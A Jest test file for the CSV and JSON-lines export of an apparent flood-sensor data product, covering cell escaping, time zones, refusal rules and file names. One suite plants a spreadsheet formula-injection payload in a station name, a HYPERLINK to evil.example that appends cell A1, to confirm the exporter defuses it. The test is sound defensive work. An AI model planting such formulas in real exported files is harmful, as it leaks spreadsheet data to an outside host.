import { CSV_COLUMNS, csvCell, ExportWriter, exportFileName, exportRefusal, LocalClock, offsetText } from './export-format.js';

describe('export format', () => {
  it.each([
    ['plain', 'plain'],
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['=SUM(A1:A2)', "'=SUM(A1:A2)"],
    ['+1', "'+1"],
    ['-cmd', "'-cmd"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\tx', "'\tx"],
    ['=HYPERLINK("x","y")', `"'=HYPERLINK(""x"",""y"")"`],
  ])('a CSV cell of %j is %j', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it('local time and offset follow daylight saving, cached per quarter hour', () => {
    const clock = new LocalClock('America/New_York');
    expect(clock.local(Date.parse('2025-03-09T06:59:00Z'))).toEqual({ time: '2025-03-09T01:59:00.000', offset: '-05:00' });
    expect(clock.local(Date.parse('2025-03-09T07:00:00Z'))).toEqual({ time: '2025-03-09T03:00:00.000', offset: '-04:00' });
    expect(new LocalClock('Asia/Kathmandu').local(Date.parse('2025-01-01T00:00:00Z')).offset).toBe('+05:45');
    expect(offsetText(-150)).toBe('-02:30');
  });

  it('writes a float32 reading at its precision and marks it raw', () => {
    const w = new ExportWriter({
      format: 'csv',
      stations: [{ id: 1, name: 'A' }],
      sensors: null,
      start: 0,
      end: 1,
      tz: 'UTC',
      createdAt: 0,
    });
    expect(w.line({ stationId: 1, moduleId: 2, sensorId: 70, time: 0, value: Math.fround(0.1) })).toBe(
      '1970-01-01T00:00:00.000Z,1970-01-01T00:00:00.000,UTC+00:00,1,A,2,wh.floodnet.depth,inches,0.1,true\r\n',
    );
    const j = new ExportWriter({
      format: 'json-lines',
      stations: [{ id: 1, name: 'A"' }],
      sensors: null,
      start: 0,
      end: 1,
      tz: 'UTC',
      createdAt: 0,
    });
    expect(JSON.parse(j.line({ stationId: 1, moduleId: 2, sensorId: 70, time: 0, value: Math.fround(0.1) }))).toMatchObject({
      stationName: 'A"',
      value: 0.1,
    });
  });

  it('refuses in flood mode and for NodeRed models only', () => {
    expect(exportRefusal({ floodMode: true, modelNames: [] })?.code).toBe('EXPORT.OFF');
    expect(exportRefusal({ floodMode: false, modelNames: ['FieldKit', 'NodeRed 2'] })?.code).toBe('EXPORT.NODERED');
    expect(exportRefusal({ floodMode: false, modelNames: ['FieldKit', null] })).toBeNull();
  });

  it('names the file after its stations and days', () => {
    // [1 January, 1 February): the last day held is 31 January.
    expect(exportFileName('json-lines', [3], Date.parse('2025-01-01'), Date.parse('2025-02-01'))).toBe(
      'groundtruth-station-3-2025-01-01-to-2025-01-31.jsonl',
    );
    expect(exportFileName('csv', [1, 2, 3, 4, 5, 6, 7], 0, 0)).toBe(
      'groundtruth-stations-1-2-3-4-5-and-2-more-1970-01-01-to-1970-01-01.csv',
    );
  });

  it("names the days of the reader's time zone, the last one held (not the midnight after it)", () => {
    // New York's 1 to 27 November 2026: [1 Nov 04:00Z, 28 Nov 05:00Z).
    const start = Date.parse('2026-11-01T04:00:00Z');
    const end = Date.parse('2026-11-28T05:00:00Z');
    expect(exportFileName('csv', [7], start, end, 'America/New_York')).toBe('groundtruth-station-7-2026-11-01-to-2026-11-27.csv');
    // Madrid's 2 June: midnight there is 22:00Z the day before.
    expect(
      exportFileName('csv', [7], Date.parse('2025-06-01T22:00:00Z'), Date.parse('2025-06-02T22:00:00Z'), 'Europe/Madrid'),
    ).toBe('groundtruth-station-7-2025-06-02-to-2025-06-02.csv');
  });
});

/** Splits CSV text into rows of cells as RFC 4180 (and a spreadsheet opening the file) does. */
const parseCsv = (text: string): string[][] => {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
};

describe('a CSV export opened in a spreadsheet', () => {
  const evil = 'Pier 4,=HYPERLINK("http://evil.example/?"&A1,"Click") "quoted", +1, -2, @SUM(A1), \tx';
  const sut = new ExportWriter({
    format: 'csv',
    stations: [
      { id: 7, name: evil },
      { id: 8, name: '=1+1' },
    ],
    sensors: [70, 999],
    start: 0,
    end: 86_400_000,
    tz: 'UTC',
    createdAt: 0,
  });
  const text =
    sut.head() +
    sut.line({ stationId: 7, moduleId: 1, sensorId: 70, time: 0, value: -1 }) +
    sut.line({ stationId: 8, moduleId: 1, sensorId: 70, time: 60_000, value: 2 });
  const rows = parseCsv(text);

  it('has no cell a spreadsheet would run as a formula, in the # header lines as in the data', () => {
    // Numbers (-1) are the product's own values, which a spreadsheet reads as values.
    const ours = /^-?\d+(\.\d+)?$/;
    const formulas = rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !ours.test(c));
    expect(formulas).toEqual([]);
  });

  it('writes the UTC offset as text a spreadsheet keeps (UTC+00:00): not a formula, not a time of day', () => {
    const data = rows.filter((r) => !r[0]!.startsWith('#')).slice(1);
    expect(data.map((r) => r[2])).toEqual(['UTC+00:00', 'UTC+00:00']);
  });

  it('keeps every # line a comment line (first cell starts with #) and the station names whole in their own cell', () => {
    const header = rows.filter((r) => r[0]!.startsWith('#'));
    expect(header.length).toBeGreaterThan(10);
    expect(rows.filter((r) => !r[0]!.startsWith('#'))[0]).toEqual([...CSV_COLUMNS]);
    expect(header).toContainEqual(['# station 7:', evil]);
    expect(header).toContainEqual(['# station 8:', "'=1+1"]);
  });
});
